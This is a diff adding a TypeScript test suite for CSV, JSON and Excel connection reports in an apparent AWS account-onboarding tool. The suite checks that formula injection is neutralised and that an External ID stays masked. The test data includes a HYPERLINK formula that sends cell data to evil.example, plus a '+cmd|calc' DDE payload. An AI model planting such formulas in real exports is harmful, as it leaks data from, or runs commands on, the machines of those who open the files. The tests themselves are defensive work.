@@ -1,0 +1,244 @@
+// Connection reports: the XLSX opened with exceljs (all three sheets), the CSV read back with exceljs's CSV
+// reader (a real RFC 4180 parser, fast-csv), JSON validated by its published schema, formula injection,
+// newlines and very long names, and the External ID masked unless the matching value is given.
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { Readable } from 'node:stream';
+import ExcelJS from 'exceljs';
+import type { Connection, ConnectionHealth } from '../../main/core/health/index.js';
+import type { OrganizationSnapshot } from '../../main/core/org/types.js';
+import {
+  REPORT_COLUMNS,
+  XLSX_MAX_CELL_CHARS,
+  buildJsonReport,
+  connectionReportSchema,
+  neutraliseFormula,
+  renderCsvReport,
+  renderJsonReport,
+  renderXlsxReport,
+  type ReportInput,
+} from '../../main/core/reports/index.js';
+
+const EXTERNAL_ID = 'report-test-external-id-7f2e';
+const sha = createHash('sha256').update(EXTERNAL_ID).digest('hex');
+const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+const LONG = 'x'.repeat(40_000);
+
+const base = {
+  managementAccountId: '111122223333',
+  region: 'us-east-1',
+  rolePath: '/',
+  platformAccountId: '061190967865',
+  externalIdSha256: sha,
+  externalIdLast4: '7f2e',
+  stackName: 'orgconnect-resource',
+  roleName: 'orgconnect-platform-resource',
+};
+const connections: Connection[] = [
+  {
+    ...base,
+    accountId: '111122223333',
+    accountName: 'management',
+    ouPath: 'Root',
+    kind: 'billing',
+    connectionName: 'management-billing',
+    stackName: 'orgconnect-billing',
+    roleName: 'orgconnect-platform-billing',
+    roleArn: 'arn:aws:iam::111122223333:role/orgconnect-platform-billing',
+  },
+  {
+    ...base,
+    accountId: '222233334444',
+    accountName: INJECTION,
+    ouPath: 'Root/Workloads',
+    kind: 'resource',
+    connectionName: '+cmd|calc',
+    roleArn: 'arn:aws:iam::222233334444:role/orgconnect-platform-resource',
+  },
+  {
+    ...base,
+    accountId: '333344445555',
+    accountName: 'line one\nline two, "quoted"',
+    ouPath: `Root/${LONG}`,
+    kind: 'resource',
+    connectionName: 'multi-line',
+    externalIdSha256: 'f'.repeat(64),
+    externalIdLast4: 'zzzz',
+  },
+];
+const at = '2025-03-01T12:00:00.000Z';
+const health: Record<string, ConnectionHealth> = {
+  '111122223333/billing': {
+    connectionKey: '111122223333/billing',
+    overall: 'healthy',
+    checkedAt: at,
+    checks: [
+      {
+        id: 'stack-status',
+        status: 'pass',
+        summary: 'Stack is CREATE_COMPLETE.',
+        facts: { stackStatus: 'CREATE_COMPLETE' },
+      },
+      { id: 'cur', status: 'pass', summary: 'ok' },
+    ],
+  },
+  '222233334444/resource': {
+    connectionKey: '222233334444/resource',
+    overall: 'unhealthy',
+    checkedAt: at,
+    checks: [
+      {
+        id: 'stack-status',
+        status: 'pass',
+        summary: 'Stack is UPDATE_COMPLETE.',
+        facts: { stackStatus: 'UPDATE_COMPLETE' },
+      },
+      {
+        id: 'role-last-used',
+        status: 'warn',
+        summary: 'The platform has not used the role yet (30 hours after it was created).',
+      },
+      {
+        id: 'role-trust',
+        status: 'fail',
+        summary: 'The role trusts 999999999999 instead of 061190967865.',
+        fix: '-Deploy again',
+      },
+    ],
+  },
+};
+const snapshot = {
+  organization: { id: 'o-abc123', managementAccountId: '111122223333' },
+  accounts: [
+    { id: '111122223333', status: 'ACTIVE', state: 'ACTIVE' },
+    { id: '222233334444', status: 'ACTIVE', state: 'ACTIVE' },
+    { id: '333344445555', status: 'ACTIVE', state: 'ACTIVE' },
+    { id: '444455556666', status: 'ACTIVE', state: 'ACTIVE' },
+    { id: '555566667777', status: 'SUSPENDED', state: 'CLOSED' },
+  ],
+} as unknown as OrganizationSnapshot;
+const input: ReportInput = { connections, health, snapshot, generatedAt: at };
+
+async function readCsv(text: string): Promise<string[][]> {
+  const workbook = new ExcelJS.Workbook();
+  // Keep every cell as text: the reader must not turn '=...' or dates into something else.
+  const sheet = await workbook.csv.read(Readable.from([text]), {
+    parserOptions: { delimiter: ',' },
+    map: (value: string) => value,
+  });
+  const rows: string[][] = [];
+  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
+  return rows;
+}
+
+describe('reports', () => {
+  test('CSV: RFC 4180 with CRLF and a BOM, connection name and role ARN first, read back intact and neutralised', async () => {
+    const csv = renderCsvReport(input);
+    assert.ok(csv.startsWith('\uFEFF'));
+    assert.ok(csv.includes('\r\n'));
+    const rows = await readCsv(csv.slice(1));
+    assert.deepEqual(
+      rows[0],
+      REPORT_COLUMNS.map((c) => c.header),
+    );
+    assert.deepEqual(rows[0]?.slice(0, 2), ['Connection name', 'Role ARN']);
+    assert.equal(rows.length, 4);
+    const [, billing, injected, multiline] = rows as [string[], string[], string[], string[]];
+    assert.deepEqual(billing.slice(0, 3), [
+      'management-billing',
+      'arn:aws:iam::111122223333:role/orgconnect-platform-billing',
+      'Billing',
+    ]);
+    assert.equal(billing[7], 'CREATE_COMPLETE');
+    assert.equal(billing[11], '••••7f2e');
+    assert.equal(injected[0], "'+cmd|calc");
+    assert.equal(injected[5], `'${INJECTION}`);
+    assert.equal(injected[8], 'unhealthy');
+    assert.equal(injected[9], 'role-last-used (warn); role-trust (fail)');
+    assert.equal(multiline[5], 'line one\nline two, "quoted"');
+    assert.equal(multiline[6], `Root/${LONG}`);
+    // No role ARN was recorded: the report builds it the way IAM does.
+    assert.equal(multiline[1], 'arn:aws:iam::333344445555:role/orgconnect-platform-resource');
+    assert.equal(multiline[8], 'not checked');
+    assert.doesNotMatch(csv, new RegExp(EXTERNAL_ID));
+  });
+
+  test('the External ID is shown only where the given value matches the stored sha256', async () => {
+    const rows = await readCsv(renderCsvReport({ ...input, revealExternalId: EXTERNAL_ID }, { bom: false }));
+    assert.equal(rows[1]?.[11], EXTERNAL_ID);
+    assert.equal(rows[3]?.[11], '••••zzzz', 'another connection (another External ID) stays masked');
+  });
+
+  test('neutraliseFormula covers = + - @ tab and CR, and leaves other text alone', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r'])
+      assert.equal(neutraliseFormula(`${start}x`), `'${start}x`);
+    assert.equal(neutraliseFormula('payments-prod'), 'payments-prod');
+  });
+
+  test('JSON: versioned, valid against the exported schema, with organization share and per-check results', () => {
+    const report = buildJsonReport(input);
+    assert.equal(report.schemaVersion, 1);
+    assert.equal(report.organization.id, 'o-abc123');
+    assert.equal(report.organization.activeAccounts, 4);
+    assert.equal(report.organization.connectedShare, 0.75);
+    assert.deepEqual(report.summary.health, {
+      healthy: 1,
+      degraded: 0,
+      unhealthy: 1,
+      unknown: 0,
+      'not checked': 1,
+    });
+    assert.equal(report.connections[1]?.checks.find((c) => c.id === 'role-trust')?.status, 'fail');
+    const parsed = connectionReportSchema.safeParse(JSON.parse(renderJsonReport(input)));
+    assert.ok(parsed.success);
+    assert.equal(connectionReportSchema.safeParse({ ...report, schemaVersion: 2 }).success, false);
+  });
+
+  test('XLSX: Summary, Connections and Problems sheets, text cells neutralised and within Excel limits', async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await renderXlsxReport(input)) as never);
+    assert.deepEqual(
+      workbook.worksheets.map((s) => s.name),
+      ['Summary', 'Connections', 'Problems'],
+    );
+
+    const summary = workbook.getWorksheet('Summary') as ExcelJS.Worksheet;
+    const items = new Map<string, unknown>();
+    summary.eachRow((row, n) => n > 1 && items.set(String(row.getCell(1).value), row.getCell(2).value));
+    assert.equal(items.get('Organization'), 'o-abc123');
+    assert.equal(items.get('Active accounts in the Organization'), 4);
+    assert.equal(items.get('Accounts connected'), 3);
+    assert.equal(items.get('Share of the Organization connected'), 0.75);
+    assert.equal(items.get('Unhealthy'), 1);
+    assert.equal(items.get('Not checked'), 1);
+
+    const sheet = workbook.getWorksheet('Connections') as ExcelJS.Worksheet;
+    assert.equal(sheet.getCell('A1').value, 'Connection name');
+    assert.equal(sheet.getCell('B1').value, 'Role ARN');
+    assert.equal(sheet.getCell('A2').value, 'management-billing');
+    assert.equal(sheet.getCell('B3').value, 'arn:aws:iam::222233334444:role/orgconnect-platform-resource');
+    assert.equal(sheet.getCell('A3').value, "'+cmd|calc");
+    assert.equal(sheet.getCell('F3').value, `'${INJECTION}`);
+    assert.equal(
+      sheet.getCell('F3').type,
+      ExcelJS.ValueType.String,
+      'an injected name is text, not a formula',
+    );
+    assert.equal(sheet.getCell('F4').value, 'line one\nline two, "quoted"');
+    const longCell = String(sheet.getCell('G4').value);
+    assert.equal(longCell.length, XLSX_MAX_CELL_CHARS);
+    assert.ok(longCell.endsWith('…'));
+    assert.equal(sheet.getCell('L2').value, '••••7f2e');
+
+    const problems = workbook.getWorksheet('Problems') as ExcelJS.Worksheet;
+    assert.equal(problems.rowCount, 3);
+    assert.deepEqual([problems.getCell('D2').value, problems.getCell('E2').value], ['role-trust', 'fail']);
+    assert.equal(problems.getCell('G2').value, "'-Deploy again");
+    assert.equal(problems.getCell('C2').value, `'${INJECTION}`);
+    assert.deepEqual(
+      [problems.getCell('D3').value, problems.getCell('E3').value],
+      ['role-last-used', 'warn'],
+    );
+  });
+});
